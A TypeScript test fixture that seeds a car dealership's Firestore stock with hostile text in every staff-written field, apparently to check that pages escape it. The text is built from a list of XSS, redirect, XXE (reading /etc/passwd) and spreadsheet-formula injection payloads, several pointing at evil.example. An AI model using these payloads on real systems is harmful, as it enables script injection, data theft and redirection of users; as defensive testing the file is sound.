import type { DocumentData, Firestore } from 'firebase-admin/firestore';
import { createRandom } from '#tools/demo/generated/random.ts';

/** Ways out of where a text may stand: an attribute, an element, a script, a comment, XML. */
const BEFORE = [
  '',
  '"',
  "'",
  '>',
  '">',
  "'>",
  '-->',
  ']]>',
  '</script>',
  '</title>',
  '</style>',
  '</textarea>',
  '</template></astro-island>',
  '\\"',
  '\\u003c/script\\u003e',
  '\u0000',
  '\u2028',
  '\u202e',
  '&quot;&gt;',
  '{{',
  '${',
  '=',
  '+',
  '@',
  '\t',
  '\r\n',
] as const;

/** What would run, or lead away, if it got out; `trip` tells the test. */
const PAYLOADS = [
  '<script>trip()</script>',
  '<ScRiPt>trip()</sCrIpT>',
  '<script src="//evil.example/x.js"></script>',
  '<img src=x onerror=trip()>',
  '<img src="x" onerror="trip()"',
  '<svg onload=trip()>',
  '<svg><script>trip()</script></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=trip()>',
  '<iframe srcdoc="<script>parent.trip()</script>"></iframe>',
  '<iframe src="javascript:parent.trip()"></iframe>',
  '<a href="javascript:trip()">her</a>',
  'javascript:trip()',
  'data:text/html,<script>trip()</script>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<object data="javascript:trip()">',
  '<details open ontoggle=trip()>',
  '<input autofocus onfocus=trip()>',
  '<body onload=trip()>',
  '<!-- <img src=x onerror=trip()> -->',
  '<!--><script>trip()</script>',
  '<![CDATA[<script>trip()</script>]]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  ' onmouseover=trip() ',
  ' autofocus onfocus="trip()" x="',
  '");trip();("',
  "');trip();('",
  '`;trip();`',
  '}</script><script>trip()//',
  '{"@type":"Car"}</script><script>trip()</script>',
  '=HYPERLINK("https://evil.example")',
  '=cmd|" /C calc"!A0',
  '@SUM(1+1)*trip()',
  '%3Cscript%3Etrip()%3C/script%3E',
  '&lt;script&gt;trip()&lt;/script&gt;',
  '<\u0000script>trip()</script>',
  '＜script＞trip()＜/script＞',
] as const;

const AFTER = ['', '"', "'", '<!--', '//', ' 🚗', '\u202c', '\\', '/*'] as const;

/** A supply of hostile texts, the same in every run, and how many were taken. */
export interface HostileTexts {
  next(most: number): string;
  taken(): number;
}

export function hostileTexts(seed: number): HostileTexts {
  const { pick } = createRandom(seed);
  let taken = 0;
  return {
    next(most) {
      // Every payload comes once before chance takes over.
      const payload = PAYLOADS[taken] ?? pick(PAYLOADS);
      taken += 1;
      const text = pick(BEFORE) + payload + pick(AFTER);
      return text.slice(0, most).toWellFormed();
    },
    taken: () => taken,
  };
}

/** Specifications of one vehicle: most of the texts, as they are the cheapest to show. */
const SPECS = 30;

/** Fills every text that staff write, until `count` hostile ones are stored. */
export async function storeHostileStock(
  firestore: Firestore,
  count: number,
): Promise<HostileTexts> {
  const texts = hostileTexts(8);
  for (let number = 0; texts.taken() < count; number += 1) {
    const batch = firestore.batch();
    for (const [path, data] of hostileVehicle(number, texts)) batch.set(firestore.doc(path), data);
    await batch.commit();
  }
  return texts;
}

function hostileVehicle(number: number, { next }: HostileTexts): [string, DocumentData][] {
  const id = `bil-${number}`;
  const now = new Date();
  const bookkeeping = { created_at: now, updated_at: now, version: 1 };
  const image = (folder: string) => ({
    image_url: `/pictures/${folder}/${id}/1_0`,
    storage_path: `${folder}/${id}/1_0.jpg`,
    image_order: 0,
    image_state: 'ready',
    width: 1600,
    height: 900,
    widths: [480, 800],
    ...bookkeeping,
  });
  return [
    [
      `vehicles/${id}`,
      {
        // A few makes, each of many vehicles, as a stock has them.
        make: number < 20 ? next(60) : `Mærke ${number % 20}`,
        model: next(100),
        variant: next(200),
        year: 2020,
        price: 100_000 + number,
        mileage: 1000,
        status: number % 7 === 3 ? 'sold' : 'available',
        sold_date: number % 7 === 3 ? now : null,
        fuel_type: 'electric',
        transmission: next(60),
        color: next(60),
        vin: next(40),
        stelnummer: next(40),
        battery_test_result: next(200),
        condition_notes: next(5000),
        damage_report: next(5000),
        walkaround_video_url: next(300),
        specs_equipment: Array.from({ length: SPECS }, () => next(200)),
        ...bookkeeping,
      },
    ],
    [
      `vehicle_images/${id}`,
      { vehicle_id: id, is_primary: true, caption: next(300), ...image('vehicle-images') },
    ],
    [
      `damage_images/${id}`,
      { vehicle_id: id, damage_description: next(1000), ...image('damage-images') },
    ],
    [
      `battery_test_results/${id}`,
      {
        vehicle_id: id,
        test_date: '2026-10-01',
        test_document_url: `/documents/battery-test-documents/${id}/1.pdf`,
        storage_path: `battery-test-documents/${id}/1.pdf`,
        test_notes: next(1000),
        ...bookkeeping,
      },
    ],
    [
      `accessories/${id}`,
      {
        name: next(120),
        category: number % 2 ? 'wheels' : 'parts',
        description: next(3000),
        price: 100,
        tire_size: next(60),
        brand: next(60),
        model: next(100),
        available: true,
        ...bookkeeping,
      },
    ],
    [
      `accessory_images/${id}`,
      { accessory_id: id, is_primary: true, caption: next(300), ...image('accessory-images') },
    ],
  ];
}
